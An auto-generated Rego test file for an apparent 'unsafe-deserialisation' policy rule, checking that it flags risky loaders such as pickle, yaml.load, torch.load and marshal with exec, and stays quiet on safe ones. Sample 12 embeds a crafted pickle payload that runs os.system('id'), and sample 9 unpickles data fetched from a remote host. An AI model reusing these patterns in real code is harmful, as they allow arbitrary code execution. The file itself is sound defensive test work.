# Written by tools/make_policy_tests.py from samples.json; do not edit.

package interlock.rules.code["unsafe-deserialisation_test"]

import data.interlock.rules.code["unsafe-deserialisation"] as rule

# "import pickle\npickle.loads(data)"
test_fires_on_sample_0 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": "data"}], "callee": "pickle.loads", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [14, 32], "unit": 0}], "index": {"callees": {"pickle.loads": [0]}, "calls": {"deserialise": [0]}, "imports": {"pickle": [0]}, "opaque": {"dynamic_code": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "pickle.loads runs what the data says", "span": [14, 32], "unit": 0}]}}}
}

# "import pickle\npickle.load(open('m.pkl', 'rb'))"
test_fires_on_sample_1 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "m.pkl"}, {"kind": "literal", "text": "rb"}], "callee": "open", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [26, 45], "unit": 0}, {"args": [{"kind": "unknown", "why": ""}], "callee": "pickle.load", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [14, 46], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "m.pkl"}, "resolved": "/home/user/m.pkl", "span": [26, 45], "unit": 0}], "index": {"callees": {"open": [0], "pickle.load": [1]}, "calls": {"deserialise": [1], "file": [0]}, "files": {"read": [0]}, "imports": {"pickle": [0]}, "opaque": {"dynamic_code": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/m.pkl": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "pickle.load runs what the data says", "span": [14, 46], "unit": 0}]}}}
}

# "import yaml\nyaml.load(open('a.yml'))"
test_fires_on_sample_2 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.yml"}], "callee": "open", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [22, 35], "unit": 0}, {"args": [{"kind": "unknown", "why": ""}], "callee": "yaml.load", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [12, 36], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a.yml"}, "resolved": "/home/user/a.yml", "span": [22, 35], "unit": 0}], "index": {"callees": {"open": [0], "yaml.load": [1]}, "calls": {"deserialise": [1], "file": [0]}, "files": {"read": [0]}, "imports": {"yaml": [0]}, "opaque": {"dynamic_code": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.yml": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "yaml.load runs what the data says", "span": [12, 36], "unit": 0}]}}}
}

# "import yaml\nyaml.load(s, Loader=yaml.UnsafeLoader)"
test_fires_on_sample_3 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": "s"}], "callee": "yaml.load", "category": "deserialise", "certainty": "certain", "kwargs": {"Loader": {"kind": "unknown", "why": ""}}, "resolved": true, "span": [12, 50], "unit": 0}], "index": {"callees": {"yaml.load": [0]}, "calls": {"deserialise": [0]}, "imports": {"yaml": [0]}, "opaque": {"dynamic_code": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "yaml.load runs what the data says", "span": [12, 50], "unit": 0}]}}}
}

# "import torch\ntorch.load('m.pt')"
test_fires_on_sample_4 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "m.pt"}], "callee": "torch.load", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [13, 31], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "m.pt"}, "resolved": "/home/user/m.pt", "span": [13, 31], "unit": 0}], "index": {"callees": {"torch.load": [0]}, "calls": {"deserialise": [0]}, "files": {"read": [0]}, "imports": {"torch": [0]}, "opaque": {"dynamic_code": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/m.pt": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "torch.load runs what the data says", "span": [13, 31], "unit": 0}]}}}
}

# "import joblib\njoblib.load('m.joblib')"
test_fires_on_sample_5 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "m.joblib"}], "callee": "joblib.load", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [14, 37], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "m.joblib"}, "resolved": "/home/user/m.joblib", "span": [14, 37], "unit": 0}], "index": {"callees": {"joblib.load": [0]}, "calls": {"deserialise": [0]}, "files": {"read": [0]}, "imports": {"joblib": [0]}, "opaque": {"dynamic_code": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/m.joblib": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "joblib.load runs what the data says", "span": [14, 37], "unit": 0}]}}}
}

# "import dill as d\nd.loads(x)"
test_fires_on_sample_6 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": "x"}], "callee": "dill.loads", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [17, 27], "unit": 0}], "index": {"callees": {"dill.loads": [0]}, "calls": {"deserialise": [0]}, "imports": {"dill": [0]}, "opaque": {"dynamic_code": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "dill.loads runs what the data says", "span": [17, 27], "unit": 0}]}}}
}

# "import numpy as np\nnp.load('a.npy', allow_pickle=True)"
test_fires_on_sample_7 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.npy"}], "callee": "numpy.load", "category": "deserialise", "certainty": "certain", "kwargs": {"allow_pickle": {"kind": "literal", "text": "True"}}, "resolved": true, "span": [19, 54], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a.npy"}, "resolved": "/home/user/a.npy", "span": [19, 54], "unit": 0}], "index": {"callees": {"numpy.load": [0]}, "calls": {"deserialise": [0]}, "files": {"read": [0]}, "imports": {"numpy": [0]}, "opaque": {"dynamic_code": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.npy": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "numpy.load runs what the data says", "span": [19, 54], "unit": 0}]}}}
}

# "import pandas as pd\npd.read_pickle('https://x.example/a.pkl')"
test_fires_on_sample_8 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "https://x.example/a.pkl"}], "callee": "pandas.read_pickle", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [20, 61], "unit": 0}], "index": {"callees": {"pandas.read_pickle": [0]}, "calls": {"deserialise": [0]}, "hosts": {"example": [0], "x.example": [0]}, "imports": {"pandas": [0]}, "ip_classes": {"unknown": [0]}, "network": {"download": [0]}}, "network": [{"by": {"call": 0}, "certainty": "certain", "flows_to": "interpreter", "host": {"kind": "literal", "text": "x.example"}, "ip_class": "unknown", "op": "download", "parents": ["example"], "scheme": "https", "span": [20, 61], "unit": 0, "url": {"kind": "literal", "text": "https://x.example/a.pkl"}}], "reading": {"opaque": []}}}
}

# "import pickle, urllib.request\npickle.loads(urllib.request.urlopen('http://x.example').read())"
test_fires_on_sample_9 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "http://x.example"}], "callee": "urllib.request.urlopen", "category": "network", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [43, 85], "unit": 0}, {"args": [{"kind": "unknown", "why": ""}], "callee": "pickle.loads", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [30, 93], "unit": 0}], "index": {"callees": {"pickle.loads": [1], "urllib.request.urlopen": [0]}, "calls": {"deserialise": [1], "network": [0]}, "hosts": {"example": [0], "x.example": [0]}, "imports": {"pickle": [0], "urllib": [1], "urllib.request": [1]}, "ip_classes": {"unknown": [0]}, "network": {"download": [0]}, "opaque": {"dynamic_code": [0]}}, "network": [{"by": {"call": 0}, "certainty": "certain", "flows_to": "interpreter", "host": {"kind": "literal", "text": "x.example"}, "ip_class": "unknown", "op": "download", "parents": ["example"], "scheme": "http", "span": [43, 85], "unit": 0, "url": {"kind": "literal", "text": "http://x.example"}}], "reading": {"opaque": [{"code": "dynamic_code", "detail": "pickle.loads runs what the data says", "span": [30, 93], "unit": 0}]}}}
}

# "import marshal\nexec(marshal.loads(b))"
test_fires_on_sample_10 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": "b"}], "callee": "marshal.loads", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [20, 36], "unit": 0}, {"args": [{"kind": "unknown", "why": ""}], "callee": "exec", "category": "code", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [15, 37], "unit": 0}], "code": [{"by": {"call": 1}, "certainty": "certain", "how": "exec()", "language": "python", "source": "computed", "span": [15, 37], "unit": 0}], "index": {"callees": {"exec": [1], "marshal.loads": [0]}, "calls": {"code": [1], "deserialise": [0]}, "code": {"computed": [0]}, "imports": {"marshal": [0]}, "opaque": {"dynamic_code": [0, 1]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "marshal.loads runs what the data says", "span": [20, 36], "unit": 0}, {"code": "dynamic_code", "detail": "exec()", "span": [15, 37], "unit": 0}]}}}
}

# "import shelve\nshelve.open('a')"
test_fires_on_sample_11 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a"}], "callee": "shelve.open", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [14, 30], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a"}, "resolved": "/home/user/a", "span": [14, 30], "unit": 0}], "index": {"callees": {"shelve.open": [0]}, "calls": {"deserialise": [0]}, "files": {"read": [0]}, "imports": {"shelve": [0]}, "opaque": {"dynamic_code": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "shelve.open runs what the data says", "span": [14, 30], "unit": 0}]}}}
}

# "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')"
test_fires_on_sample_12 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "cos\nsystem\n(S'id'\ntR."}], "callee": "pickle.loads", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [14, 57], "unit": 0}, {"args": [{"kind": "literal", "text": "id"}], "callee": "os.system", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [14, 57], "unit": 0}, {"args": [{"kind": "literal", "text": "id"}], "callee": "os.system", "category": "process", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [14, 57], "unit": 0}], "code": [{"by": {"call": 2}, "certainty": "certain", "child": 1, "how": "os.system", "language": "sh", "source": "literal", "span": [14, 57], "unit": 0}], "commands": [{"argv": [{"kind": "literal", "text": "id"}], "basename": "id", "certainty": "certain", "context": [], "cwd": {"kind": "literal", "text": "/home/user"}, "env": {}, "known": true, "name": {"kind": "literal", "text": "id"}, "operands": [], "options": {}, "redirects": [], "span": [0, 2], "unit": 1, "wrappers": []}], "index": {"callees": {"os.system": [1, 2], "pickle.loads": [0]}, "calls": {"deserialise": [0, 1], "process": [2]}, "code": {"literal": [0]}, "commands": {"id": [0]}, "imports": {"pickle": [0]}}, "reading": {"opaque": []}}}
}

# "require('node-serialize').unserialize(x)"
test_fires_on_sample_13 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "node-serialize"}], "callee": "require", "category": "introspection", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [0, 25], "unit": 0}, {"args": [{"kind": "unknown", "why": "x"}], "callee": "node-serialize.unserialize", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [0, 40], "unit": 0}], "index": {"callees": {"node-serialize.unserialize": [1], "require": [0]}, "calls": {"deserialise": [1], "introspection": [0]}, "imports": {"node-serialize": [0]}, "opaque": {"dynamic_code": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "node-serialize.unserialize may run what its input says", "span": [0, 40], "unit": 0}]}}}
}

# "readRDS('x.rds')"
test_fires_on_sample_14 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "x.rds"}], "callee": "readRDS", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [0, 16], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "x.rds"}, "resolved": "/home/user/x.rds", "span": [0, 16], "unit": 0}], "index": {"callees": {"readRDS": [0]}, "calls": {"deserialise": [0]}, "files": {"read": [0]}, "opaque": {"dynamic_code": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/x.rds": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "readRDS", "span": [0, 16], "unit": 0}]}}}
}

# "new ObjectInputStream(in).readObject();"
test_fires_on_sample_15 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": "in"}], "callee": "java.io.ObjectInputStream.new", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [0, 25], "unit": 0}, {"args": [], "callee": "*.readObject", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [0, 38], "unit": 0}], "index": {"callees": {"*.readObject": [1], "java.io.ObjectInputStream.new": [0]}, "calls": {"deserialise": [0, 1]}, "opaque": {"dynamic_code": [0, 1]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "java.io.ObjectInputStream.new", "span": [0, 25], "unit": 0}, {"code": "dynamic_code", "detail": "*.readObject", "span": [0, 38], "unit": 0}]}}}
}

# "python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'"
test_fires_on_sample_16 if {
	count(rule.deny) > 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": ""}], "callee": "pickle.load", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [19, 48], "unit": 1}], "code": [{"by": {"command": 0}, "certainty": "certain", "child": 1, "how": "python3 -c", "language": "python", "source": "literal", "span": [0, 61], "unit": 0}], "commands": [{"argv": [{"kind": "literal", "text": "python3"}, {"kind": "literal", "text": "-c"}, {"kind": "literal", "text": "import pickle,sys; pickle.load(sys.stdin.buffer)"}], "basename": "python3", "certainty": "certain", "context": [], "cwd": {"kind": "literal", "text": "/home/user"}, "env": {}, "known": true, "name": {"kind": "literal", "text": "python3"}, "operands": [], "options": {"c": {"kind": "literal", "text": "import pickle,sys; pickle.load(sys.stdin.buffer)"}}, "redirects": [], "span": [0, 61], "unit": 0, "wrappers": []}], "index": {"callees": {"pickle.load": [0]}, "calls": {"deserialise": [0]}, "code": {"literal": [0]}, "commands": {"python3": [0]}, "imports": {"pickle": [0], "sys": [1]}, "opaque": {"dynamic_code": [0]}}, "reading": {"opaque": [{"code": "dynamic_code", "detail": "pickle.load runs what the data says", "span": [19, 48], "unit": 1}]}}}
}

# "import yaml\nyaml.safe_load(open('a.yml'))"
test_is_quiet_on_sample_0 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.yml"}], "callee": "open", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [27, 40], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a.yml"}, "resolved": "/home/user/a.yml", "span": [27, 40], "unit": 0}], "index": {"callees": {"open": [0]}, "calls": {"file": [0]}, "files": {"read": [0]}, "imports": {"yaml": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.yml": [0]}}, "reading": {"opaque": []}}}
}

# "import yaml\nyaml.load(open('a.yml'), Loader=yaml.SafeLoader)"
test_is_quiet_on_sample_1 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.yml"}], "callee": "open", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [22, 35], "unit": 0}, {"args": [{"kind": "unknown", "why": ""}], "callee": "yaml.load", "category": "deserialise", "certainty": "certain", "kwargs": {"Loader": {"kind": "unknown", "why": ""}}, "resolved": true, "span": [12, 60], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a.yml"}, "resolved": "/home/user/a.yml", "span": [22, 35], "unit": 0}], "index": {"callees": {"open": [0], "yaml.load": [1]}, "calls": {"deserialise": [1], "file": [0]}, "files": {"read": [0]}, "imports": {"yaml": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.yml": [0]}}, "reading": {"opaque": []}}}
}

# "import torch\ntorch.load('m.pt', weights_only=True)"
test_is_quiet_on_sample_2 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "m.pt"}], "callee": "torch.load", "category": "deserialise", "certainty": "certain", "kwargs": {"weights_only": {"kind": "literal", "text": "True"}}, "resolved": true, "span": [13, 50], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "m.pt"}, "resolved": "/home/user/m.pt", "span": [13, 50], "unit": 0}], "index": {"callees": {"torch.load": [0]}, "calls": {"deserialise": [0]}, "files": {"read": [0]}, "imports": {"torch": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/m.pt": [0]}}, "reading": {"opaque": []}}}
}

# "import numpy as np\nnp.load('a.npy')"
test_is_quiet_on_sample_3 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.npy"}], "callee": "numpy.load", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [19, 35], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a.npy"}, "resolved": "/home/user/a.npy", "span": [19, 35], "unit": 0}], "index": {"callees": {"numpy.load": [0]}, "calls": {"deserialise": [0]}, "files": {"read": [0]}, "imports": {"numpy": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.npy": [0]}}, "reading": {"opaque": []}}}
}

# "import json\njson.loads(s)"
test_is_quiet_on_sample_4 if {
	count(rule.deny) == 0 with input as {"facts": {"index": {"imports": {"json": [0]}}, "reading": {"opaque": []}}}
}

# "import pandas as pd\npd.read_csv('a.csv')"
test_is_quiet_on_sample_5 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.csv"}], "callee": "pandas.read_csv", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [20, 40], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a.csv"}, "resolved": "/home/user/a.csv", "span": [20, 40], "unit": 0}], "index": {"callees": {"pandas.read_csv": [0]}, "calls": {"file": [0]}, "files": {"read": [0]}, "imports": {"pandas": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.csv": [0]}}, "reading": {"opaque": []}}}
}

# "import pickle\nb = pickle.dumps({'a': 1})\npickle.loads(b)"
test_is_quiet_on_sample_6 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": ""}], "callee": "pickle.loads", "category": "deserialise", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [41, 56], "unit": 0}], "index": {"callees": {"pickle.loads": [0]}, "calls": {"deserialise": [0]}, "imports": {"pickle": [0]}}, "reading": {"opaque": []}}}
}

# "import pickle\npickle.dump([1], open('a.pkl', 'wb'))"
test_is_quiet_on_sample_7 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.pkl"}, {"kind": "literal", "text": "wb"}], "callee": "open", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [31, 50], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "write", "path": {"kind": "literal", "text": "a.pkl"}, "resolved": "/home/user/a.pkl", "span": [31, 50], "unit": 0}], "index": {"callees": {"open": [0]}, "calls": {"file": [0]}, "files": {"write": [0]}, "imports": {"pickle": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.pkl": [0]}}, "reading": {"opaque": []}}}
}

# "require('js-yaml').load(x)"
test_is_quiet_on_sample_8 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "js-yaml"}], "callee": "require", "category": "introspection", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [0, 18], "unit": 0}], "index": {"callees": {"require": [0]}, "calls": {"introspection": [0]}, "imports": {"js-yaml": [0]}}, "reading": {"opaque": []}}}
}

# "JSON.parse(x)"
test_is_quiet_on_sample_9 if {
	count(rule.deny) == 0 with input as {"facts": {"index": {}, "reading": {"opaque": []}}}
}

# "saveRDS(x, 'x.rds')"
test_is_quiet_on_sample_10 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "unknown", "why": ""}, {"kind": "literal", "text": "x.rds"}], "callee": "saveRDS", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [0, 19], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "write", "path": {"kind": "literal", "text": "x.rds"}, "resolved": "/home/user/x.rds", "span": [0, 19], "unit": 0}], "index": {"callees": {"saveRDS": [0]}, "calls": {"file": [0]}, "files": {"write": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/x.rds": [0]}}, "reading": {"opaque": []}}}
}

# "import csv\nlist(csv.reader(open('a.csv')))"
test_is_quiet_on_sample_11 if {
	count(rule.deny) == 0 with input as {"facts": {"calls": [{"args": [{"kind": "literal", "text": "a.csv"}], "callee": "open", "category": "file", "certainty": "certain", "kwargs": {}, "resolved": true, "span": [27, 40], "unit": 0}], "files": [{"ancestors": ["/", "/home", "/home/user"], "by": {"call": 0}, "certainty": "certain", "op": "read", "path": {"kind": "literal", "text": "a.csv"}, "resolved": "/home/user/a.csv", "span": [27, 40], "unit": 0}], "index": {"callees": {"open": [0]}, "calls": {"file": [0]}, "files": {"read": [0]}, "imports": {"csv": [0]}, "paths": {"/": [0], "/home": [0], "/home/user": [0], "/home/user/a.csv": [0]}}, "reading": {"opaque": []}}}
}
